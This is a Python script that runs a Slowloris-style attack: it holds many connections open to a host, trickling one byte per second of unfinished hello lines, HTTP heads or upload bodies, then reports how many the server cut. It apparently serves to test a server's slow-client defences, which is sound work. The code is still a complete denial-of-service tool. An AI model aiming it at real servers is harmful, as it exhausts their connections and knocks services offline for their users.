#!/usr/bin/env python3
"""Slowloris: many connections, each sending one byte a second.

usage: slow_clients.py hello|echo|http|upload HOST PORT N SECONDS OUT

Opens N connections and, for SECONDS, sends one byte a second on each
(a hello line that never ends, an echo byte, an HTTP head that never
ends, an upload body).  Writes to OUT how many the server closed (cut)
and how many were still open at the end, as "cut=C open=O".
"""
import selectors
import socket
import sys
import time
import resource

kind, host, port, n, secs, out = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
    int(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
first = {'hello': b'a', 'echo': b'a', 'http': b'G', 'upload': b'a'}[kind]
rest = {'hello': b'a', 'echo': b'a', 'http': b'E', 'upload': b'a'}[kind]
socks = []
for i in range(n):
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    socks.append(s)
sel = selectors.DefaultSelector()
for s in socks:
    sel.register(s, selectors.EVENT_READ)
alive = set(socks)
cut = 0
end = time.monotonic() + secs
tick = 0
while time.monotonic() < end and alive:
    for s in list(alive):
        try:
            s.send(first if tick == 0 else rest)
        except (BlockingIOError, OSError):
            pass
    tick += 1
    until = time.monotonic() + 1
    while time.monotonic() < until:
        for key, _ in sel.select(timeout=max(0, until - time.monotonic())):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b''
            if not data:
                sel.unregister(s)
                alive.discard(s)
                cut += 1
with open(out, 'w') as f:
    f.write(f'cut={cut} open={len(alive)}\n')
